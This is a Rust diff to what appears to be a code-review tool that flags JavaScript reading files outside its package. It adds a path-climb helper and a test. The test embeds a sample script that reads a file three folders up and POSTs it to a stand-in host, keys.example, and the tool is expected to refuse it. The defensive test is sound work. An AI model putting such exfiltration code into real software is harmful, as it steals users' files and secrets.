@@ -462,6 +462,11 @@ std::thread_local! {
     static CLIMBED: std::cell::Cell<Option<usize>> = const { std::cell::Cell::new(None) };
 }
 
+/// Whether an unresolved use is a path climbed out of the package (see [`take_climb`]).
+pub(crate) fn is_climb(what: &str) -> bool {
+    what.contains("folders above the script's own folder")
+}
+
 /// Forget the last climb (before folding a call's arguments), or take it (after): the
 /// sentence for a call given a path that climbed out of the package.
 pub(super) fn take_climb() -> Option<String> {
@@ -563,6 +568,14 @@ mod tests {
             "{:?}",
             f.net
         );
+        // Read through a climbed path, sent to a known host: refused.
+        let sent = "const path = require('path');\nconst up = path.resolve(__filename, '../../..');\nconst k = require('fs').readFileSync(path.join(up, process.argv[2]));\nrequire('https').request('https://keys.example/u', { method: 'POST' }).end(k);";
+        let texts = vec![("go.js".to_string(), sent.to_string())];
+        let worst = crate::review::review(&texts, &Default::default(), &Default::default())
+            .into_iter()
+            .map(|f| f.verdict)
+            .max();
+        assert_eq!(worst, Some(crate::report::Severity::Refuse));
         let data = "import url from 'node:url';\nconsole.log(url.parse('https://example.com/x'));";
         assert!(analyze(Lang::JavaScript, data, 1).net.is_empty());
     }
